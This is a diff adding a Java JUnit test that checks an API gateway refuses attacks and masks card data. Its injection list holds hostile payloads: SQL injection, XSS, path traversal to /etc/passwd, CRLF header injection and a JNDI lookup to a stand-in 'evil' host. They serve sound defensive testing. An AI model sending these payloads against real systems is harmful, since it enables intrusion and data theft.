@@ -1,0 +1,354 @@
+package io.bulwark.gateway;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.nimbusds.jose.JOSEObjectType;
+import com.nimbusds.jose.JWSHeader;
+import com.nimbusds.jose.jwk.JWKSet;
+import com.nimbusds.jwt.JWTClaimsSet;
+import com.nimbusds.jwt.SignedJWT;
+import io.bulwark.audit.AuditChainVerifier;
+import io.bulwark.audit.ChainedAuditRecord;
+import io.bulwark.config.ApiConfig;
+import io.bulwark.config.AuthorizationServerConfig;
+import io.bulwark.config.BulwarkConfig;
+import io.bulwark.config.ClientConfig;
+import io.bulwark.config.GatewayConfig;
+import io.bulwark.config.ListenAddress;
+import io.bulwark.config.MasterKeyConfig;
+import io.bulwark.config.StoreConfig;
+import io.bulwark.config.TlsFiles;
+import io.bulwark.config.UpstreamConfig;
+import io.bulwark.oauth.SigningKeyRing;
+import io.bulwark.runtime.BulwarkNode;
+import io.bulwark.store.MasterKey;
+import io.bulwark.testing.FreePorts;
+import io.bulwark.testing.JwtFactory;
+import io.bulwark.tls.DevCertificateAuthority;
+import io.bulwark.tls.TlsPolicy;
+import io.vertx.core.Vertx;
+import io.vertx.core.http.HttpServer;
+import io.vertx.core.http.HttpServerRequest;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+import java.net.URI;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.Date;
+import java.util.List;
+import java.util.Map;
+import java.util.Queue;
+import java.util.Set;
+import java.util.UUID;
+import java.util.concurrent.ConcurrentLinkedQueue;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Attacks through a real gateway (a node started from its configuration, real TLS, mTLS to the
+ * upstream) in front of a fake upstream: a small Vert.x HTTPS server that records what reaches it
+ * and answers with bodies that keep or break the cards contract. Each refusal is checked for its
+ * status and problem type, for not reaching the upstream when refused before the proxy, and for
+ * the audit event it leaves.
+ */
+class GatewayAttackTest {
+
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final String AUDIENCE = "https://api.cards.example";
+    private static final String IDEMPOTENCY_KEY = "3f2b8c1e-9a4d-4c5e-8f7a-1b2c3d4e5f60";
+    private static final List<String> INJECTIONS = List.of("' OR '1'='1' --", "1; DROP TABLE cards;--", "<script>alert(1)</script>",
+            "../../../etc/passwd", "x\r\nSet-Cookie: admin=true", "${jndi:ldap://evil/a}", "%00", "4111111111111111");
+    private static final String CARD = "{\"cardId\":\"0a1b2c3d\",\"nickname\":\"travel\",\"pan\":\"4111111111111111\",\"expiry\":\"2030-01\","
+            + "\"limit\":\"500.00\",\"pinOffset\":\"9911\",\"holder\":{\"name\":\"Ann Example\",\"birthDate\":\"1990-02-03\"}}";
+
+    private static Path dir;
+    private static Vertx upstreamVertx;
+    private static final Queue<String> reachedUpstream = new ConcurrentLinkedQueue<>();
+    private static BulwarkNode node;
+    private static HttpClient http;
+    private static String gateway;
+    private static String issuer;
+
+    @BeforeAll
+    static void start() throws Exception {
+        dir = Files.createTempDirectory("bulwark-attacks");
+        DevCertificateAuthority ca = DevCertificateAuthority.loadOrCreate(dir.resolve("tls"));
+        List<String> dns = List.of("localhost");
+        List<String> ips = List.of("127.0.0.1");
+        TlsFiles upstreamIdentity = ca.serverIdentity("fake-upstream", dns, ips);
+        TlsFiles gatewayClient = ca.clientIdentity("gateway-client", "Bulwark Gateway");
+
+        upstreamVertx = Vertx.vertx();
+        HttpServer upstream = upstreamVertx.createHttpServer(TlsPolicy.serverRequiringClientCertificate(upstreamIdentity, ca.caCertificate()))
+                .requestHandler(GatewayAttackTest::fakeUpstream)
+                .listen(0, "localhost").await();
+
+        Path openapi = dir.resolve("cards-openapi.yaml");
+        Files.copy(Path.of("src/test/resources/contract/cards-openapi.yaml"), openapi);
+        MasterKey.createIfMissing(dir.resolve("master.key"));
+        int asPort = FreePorts.next();
+        int gatewayPort = FreePorts.next();
+        issuer = "https://localhost:" + asPort;
+        gateway = "https://localhost:" + gatewayPort;
+        // This test is about the API contract, so its tokens are plain bearer tokens minted by the test;
+        // sender constraint has its own tests (SenderConstrainedTokensEndToEndTest).
+        ApiConfig cards = new ApiConfig("cards", "/api", openapi, new UpstreamConfig(URI.create("https://localhost:" + upstream.actualPort()),
+                gatewayClient, ca.caCertificate(), Duration.ofSeconds(5)), true);
+        node = BulwarkNode.start(new BulwarkConfig(null, dir.resolve("data"), new MasterKeyConfig("BULWARK_TEST_UNSET_KEY", dir.resolve("master.key")),
+                StoreConfig.embedded(),
+                new AuthorizationServerConfig(URI.create(issuer), new ListenAddress("localhost", asPort),
+                        ca.serverIdentity("as", dns, ips), Duration.ofMinutes(5)),
+                new GatewayConfig(new ListenAddress("localhost", gatewayPort), ca.serverIdentity("gw", dns, ips), AUDIENCE,
+                        URI.create(issuer), URI.create(issuer + "/jwks"), ca.caCertificate(), List.of(cards)),
+                // The gateway admits tokens of registered, enabled clients only.
+                List.of(new ClientConfig("card-partner", "Card Partner", "private_key_jwt",
+                        new JWKSet(JwtFactory.ecKey("card-partner-key").toPublicJWK()).toString(),
+                        Set.of("cards:read", "cards:pan", "cards:holder", "transfers:write")))), Clock.systemUTC());
+        http = HttpClient.newBuilder().sslContext(TlsPolicy.jdkClientContext(ca.caCertificate())).build();
+    }
+
+    @AfterAll
+    static void stop() {
+        node.close();
+        upstreamVertx.close().await();
+    }
+
+    /** The fake upstream: records every request, answers per path, some answers leaking or breaking the contract. */
+    private static void fakeUpstream(HttpServerRequest request) {
+        request.body().onSuccess(body -> {
+            reachedUpstream.add(request.method() + " " + request.uri() + " " + body);
+            var response = request.response().putHeader("Content-Type", "application/json").putHeader("Server", "fake/1.0");
+            String path = request.path();
+            switch (path) {
+                case "/cards" -> response.end("{\"cards\":[" + CARD + "]}");
+                case "/cards/0a1b2c3d" -> response.end(CARD);
+                case "/cards/0a1b2c3d/transfers" -> response.setStatusCode(201).end(body);
+                case "/leaky/extra" -> response.end("{\"id\":\"x\",\"passwordHash\":\"$2b$12$Kq9\"}");
+                case "/leaky/secret" -> response.end("{\"id\":\"x\",\"apiKey\":\"sk_live_abc123\",\"items\":[{\"name\":\"n\",\"token\":\"tok_1\"}]}");
+                case "/leaky/badtype" -> response.end("{\"id\":\"x\",\"count\":\"many\"}");
+                case "/leaky/status" -> response.setStatusCode(299).end("{\"id\":\"x\"}");
+                case "/leaky/open" -> response.end("{\"open\":{\"label\":\"x\",\"email\":\"ann@example.com\"}}");
+                case "/leaky/nested" -> response.end("{\"items\":[{\"name\":\"n\",\"owner\":\"Ann\"}]}");
+                case "/leaky/text" -> response.putHeader("Content-Type", "text/plain").end("id=x");
+                default -> response.setStatusCode(404).putHeader("Content-Type", "application/problem+json")
+                        .end("{\"type\":\"https://x/none\",\"title\":\"Not Found\",\"status\":404}");
+            }
+        });
+    }
+
+    // --- the caller's side ---
+
+    private static String token(String scope) throws Exception {
+        SigningKeyRing.Active key = node.signingKeys().active();
+        Instant now = Instant.now();
+        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(key.algorithm()).type(new JOSEObjectType("at+jwt")).keyID(key.keyId()).build(),
+                new JWTClaimsSet.Builder().issuer(issuer).audience(AUDIENCE).subject("ann").claim("client_id", "card-partner")
+                        .claim("scope", scope).issueTime(Date.from(now)).expirationTime(Date.from(now.plusSeconds(300)))
+                        .jwtID(UUID.randomUUID().toString()).build());
+        jwt.sign(key.signer());
+        return jwt.serialize();
+    }
+
+    private static HttpResponse<String> send(HttpRequest.Builder request, String scope) throws Exception {
+        return http.send(request.header("Authorization", "Bearer " + token(scope)).build(), HttpResponse.BodyHandlers.ofString());
+    }
+
+    private static HttpResponse<String> get(String pathAndQuery, String scope) throws Exception {
+        return send(HttpRequest.newBuilder(URI.create(gateway + pathAndQuery)).GET(), scope);
+    }
+
+    private static HttpResponse<String> transfer(String body, String contentType) throws Exception {
+        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(gateway + "/api/cards/0a1b2c3d/transfers"))
+                .header("Idempotency-Key", IDEMPOTENCY_KEY).POST(HttpRequest.BodyPublishers.ofString(body));
+        if (contentType != null) {
+            request.header("Content-Type", contentType);
+        }
+        return send(request, "transfers:write");
+    }
+
+    private static String encoded(String value) {
+        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
+    }
+
+    private static String jsonOf(Map<String, Object> body) throws Exception {
+        return JSON.writeValueAsString(body);
+    }
+
+    private static JsonNode lastAuditEvent() throws Exception {
+        long head = node.store().auditRecords().head().seq();
+        ChainedAuditRecord record = node.store().auditRecords().after(head - 1, 1).getFirst();
+        return JSON.readTree(record.eventJson());
+    }
+
+    /** Sends a request that must be refused before the proxy: checks status, problem type, upstream untouched, audit event. */
+    private static void assertRefusedBeforeUpstream(HttpResponse<String> response, int status, String slug, String reason) throws Exception {
+        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
+        assertThat(response.headers().firstValue("Content-Type")).contains("application/problem+json");
+        assertThat(JSON.readTree(response.body()).get("type").asText()).isEqualTo("https://bulwark.dev/problems/" + slug);
+        JsonNode audit = lastAuditEvent();
+        assertThat(audit.get("decision").asText()).isEqualTo("refused");
+        assertThat(audit.get("reason").asText()).isEqualTo(reason);
+        assertThat(audit.get("problem").asText()).isEqualTo(slug);
+        assertThat(audit.get("status").asInt()).isEqualTo(status);
+    }
+
+    // --- requests ---
+
+    @Test
+    void massAssignmentIsRefusedAndNeverReachesTheUpstream() throws Exception {
+        int before = reachedUpstream.size();
+        assertRefusedBeforeUpstream(transfer("{\"amount\":\"10.00\",\"currency\":\"EUR\",\"status\":\"approved\"}", "application/json"),
+                400, "unknown-property", "unknown_property");
+        JsonNode audit = lastAuditEvent();
+        assertThat(audit.get("sub").asText()).isEqualTo("ann");
+        assertThat(audit.get("client_id").asText()).isEqualTo("card-partner");
+        assertThat(audit.get("operation").asText()).isEqualTo("createTransfer");
+        assertThat(audit.at("/objects/cardId").asText()).isEqualTo("0a1b2c3d");
+        assertThat(audit.get("bytes_in").asInt()).isPositive();
+        assertRefusedBeforeUpstream(transfer("{\"amount\":\"10.00\",\"currency\":\"EUR\",\"beneficiary\":{\"iban\":\"DE89370400440532013000\",\"owner\":\"me\"}}",
+                "application/json"), 400, "unknown-property", "unknown_property");
+        assertThat(reachedUpstream).hasSize(before);
+
+        // The control: the same transfer without the extra property goes through, as does an opted-out object.
+        HttpResponse<String> accepted = transfer("{\"amount\":\"10.00\",\"currency\":\"EUR\",\"metadata\":{\"anything\":1}}", "application/json");
+        assertThat(accepted.statusCode()).as(accepted.body()).isEqualTo(201);
+        assertThat(reachedUpstream).hasSize(before + 1);
+        assertThat(lastAuditEvent().get("decision").asText()).isEqualTo("allowed");
+    }
+
+    @Test
+    void injectionStringsInEveryParameterTypeAreRefusedBeforeTheUpstream() throws Exception {
+        int before = reachedUpstream.size();
+        for (String attack : INJECTIONS) {
+            HttpResponse<String> path = get("/api/cards/" + encoded(attack), "cards:read");
+            // An encoded '/' or a dot segment matches no route at all; anything else breaks the cardId pattern.
+            if (path.statusCode() == 404) {
+                assertRefusedBeforeUpstream(path, 404, "undeclared-route", "undeclared_route");
+            } else {
+                assertRefusedBeforeUpstream(path, 400, "invalid-request-parameter", "invalid_parameter");
+            }
+            assertRefusedBeforeUpstream(get("/api/cards?q=" + encoded(attack), "cards:read"), 400, "invalid-request-parameter", "invalid_parameter");
+            assertRefusedBeforeUpstream(get("/api/cards?limit=" + encoded(attack), "cards:read"), 400, "invalid-request-parameter", "invalid_parameter");
+            assertRefusedBeforeUpstream(get("/api/cards?status=" + encoded(attack), "cards:read"), 400, "invalid-request-parameter", "invalid_parameter");
+            // Header values cannot carry CR or LF at all (RFC 9110 §5.5): the client library refuses to send them.
+            assertRefusedBeforeUpstream(send(HttpRequest.newBuilder(URI.create(gateway + "/api/cards"))
+                    .header("X-Customer-Ref", attack.replace("\r\n", " ")), "cards:read"), 400, "invalid-request-parameter", "invalid_parameter");
+            assertRefusedBeforeUpstream(transfer(jsonOf(Map.of("amount", attack, "currency", "EUR")), "application/json"),
+                    400, "invalid-request-body", "invalid_body");
+            assertRefusedBeforeUpstream(transfer(jsonOf(Map.of("amount", "1.00", "currency", attack)), "application/json"),
+                    400, "invalid-request-body", "invalid_body");
+            HttpResponse<String> refused = get("/api/cards?q=" + encoded(attack), "cards:read");
+            assertThat(refused.body()).doesNotContain(attack).doesNotContain("DROP").doesNotContain("<script>");
+        }
+        assertRefusedBeforeUpstream(transfer(jsonOf(Map.of("amount", "1.00", "currency", "EUR", "reference", "a\r\nSet-Cookie: x=1")),
+                "application/json"), 400, "invalid-request-body", "invalid_body");
+        assertThat(reachedUpstream).hasSize(before);
+    }
+
+    @Test
+    void undeclaredQueryParametersAreRefused() throws Exception {
+        int before = reachedUpstream.size();
+        assertRefusedBeforeUpstream(get("/api/cards?debug=true", "cards:read"), 400, "unknown-request-parameter", "unknown_parameter");
+        assertRefusedBeforeUpstream(get("/api/cards?limit=1&limit=50", "cards:read"), 400, "invalid-request-parameter", "invalid_parameter");
+        assertThat(reachedUpstream).hasSize(before);
+    }
+
+    @Test
+    void oversizedStringsAreRefused() throws Exception {
+        int before = reachedUpstream.size();
+        assertRefusedBeforeUpstream(get("/api/cards?q=" + "A".repeat(4_000), "cards:read"), 400, "invalid-request-parameter", "invalid_parameter");
+        assertRefusedBeforeUpstream(transfer(jsonOf(Map.of("amount", "1.00", "currency", "EUR", "reference", "x".repeat(200_000))),
+                "application/json"), 400, "invalid-request-body", "invalid_body");
+        assertRefusedBeforeUpstream(transfer(jsonOf(Map.of("amount", "9".repeat(50_000) + ".00", "currency", "EUR")),
+                "application/json"), 400, "invalid-request-body", "invalid_body");
+        assertThat(reachedUpstream).hasSize(before);
+    }
+
+    @Test
+    void theWrongContentTypeIsRefusedWith415() throws Exception {
+        int before = reachedUpstream.size();
+        String body = "{\"amount\":\"1.00\",\"currency\":\"EUR\"}";
+        assertRefusedBeforeUpstream(transfer(body, "text/plain"), 415, "unsupported-media-type", "unsupported_media_type");
+        assertRefusedBeforeUpstream(transfer(body, "application/xml"), 415, "unsupported-media-type", "unsupported_media_type");
+        assertRefusedBeforeUpstream(transfer(body, "application/json; charset=utf-16"), 415, "unsupported-media-type", "unsupported_media_type");
+        assertRefusedBeforeUpstream(transfer(body, null), 415, "unsupported-media-type", "unsupported_media_type");
+        assertRefusedBeforeUpstream(transfer("{\"amount\":\"1.00\",\"currency\":\"EUR\",\"amount\":\"9999.00\"}", "application/json"),
+                400, "invalid-request-body", "invalid_body");
+        assertThat(reachedUpstream).hasSize(before);
+    }
+
+    // --- responses ---
+
+    @Test
+    void aResponseLeakingAnUndeclaredFieldIsWithheldWith502() throws Exception {
+        for (String kind : List.of("extra", "badtype", "status", "text", "nested")) {
+            int before = reachedUpstream.size();
+            HttpResponse<String> response = get("/api/leaky/" + kind, "cards:read");
+            assertThat(response.statusCode()).as(kind).isEqualTo(502);
+            assertThat(JSON.readTree(response.body()).get("type").asText()).isEqualTo("https://bulwark.dev/problems/invalid-upstream-response");
+            assertThat(response.body()).doesNotContain("passwordHash", "$2b$", "many", "Ann");
+            assertThat(reachedUpstream).as("the upstream was asked; its answer was withheld").hasSize(before + 1);
+            JsonNode audit = lastAuditEvent();
+            assertThat(audit.get("reason").asText()).isEqualTo("invalid_upstream_response");
+            assertThat(audit.get("status").asInt()).isEqualTo(502);
+        }
+    }
+
+    @Test
+    void secretsNeverLeaveAndUnclassifiedExtrasAreRemoved() throws Exception {
+        HttpResponse<String> secret = get("/api/leaky/secret", "cards:read cards:pan cards:holder");
+        assertThat(secret.statusCode()).isEqualTo(200);
+        assertThat(JSON.readTree(secret.body())).isEqualTo(JSON.readTree("{\"id\":\"x\",\"items\":[{\"name\":\"n\"}]}"));
+        HttpResponse<String> open = get("/api/leaky/open", "cards:read");
+        assertThat(JSON.readTree(open.body())).isEqualTo(JSON.readTree("{\"open\":{\"label\":\"x\"}}"));
+        assertThat(lastAuditEvent().get("decision").asText()).isEqualTo("allowed");
+    }
+
+    @Test
+    void thePanIsMaskedAndPersonalDataRemovedUnlessAScopeAllowsIt() throws Exception {
+        HttpResponse<String> partner = get("/api/cards", "cards:read");
+        assertThat(partner.statusCode()).as(partner.body()).isEqualTo(200);
+        JsonNode card = JSON.readTree(partner.body()).at("/cards/0");
+        assertThat(card.get("pan").asText()).isEqualTo("************1111");
+        assertThat(card.has("holder")).isFalse();
+        assertThat(card.has("expiry")).isFalse();
+        assertThat(card.has("pinOffset")).isFalse();
+        assertThat(card.get("limit").asText()).isEqualTo("500.00");
+        assertThat(partner.headers().firstValue("Server")).isEmpty();
+        assertThat(lastAuditEvent().get("bytes_out").asInt()).isEqualTo(partner.body().getBytes(StandardCharsets.UTF_8).length);
+
+        JsonNode trusted = JSON.readTree(get("/api/cards/0a1b2c3d", "cards:read cards:pan cards:holder").body());
+        assertThat(trusted.get("pan").asText()).isEqualTo("4111111111111111");
+        assertThat(trusted.at("/holder/birthDate").asText()).isEqualTo("1990-02-03");
+        assertThat(trusted.has("pinOffset")).isFalse();
+    }
+
+    // --- the audit trail itself ---
+
+    @Test
+    void theAuditTrailIsIntactAndHoldsNoTokenOrFullPan() throws Exception {
+        String token = token("cards:read");
+        http.send(HttpRequest.newBuilder(URI.create(gateway + "/api/cards/4111111111111111")).header("Authorization", "Bearer " + token).build(),
+                HttpResponse.BodyHandlers.ofString());
+        http.send(HttpRequest.newBuilder(URI.create(gateway + "/api/cards?q=" + token)).header("Authorization", "Bearer " + token).build(),
+                HttpResponse.BodyHandlers.ofString());
+        get("/api/cards", "cards:read");
+
+        List<ChainedAuditRecord> records = node.store().auditRecords().after(0, 100_000);
+        assertThat(records).isNotEmpty().allSatisfy(record -> assertThat(record.eventJson())
+                .doesNotContain(token).doesNotContain("eyJ").doesNotContain("4111111111111111").doesNotContain("Bearer"));
+        AuditChainVerifier.Result result = AuditChainVerifier.verify(node.store().auditRecords());
+        assertThat(result.intact()).as(result.problem()).isTrue();
+        assertThat(result.verified()).isEqualTo(records.size());
+    }
+}
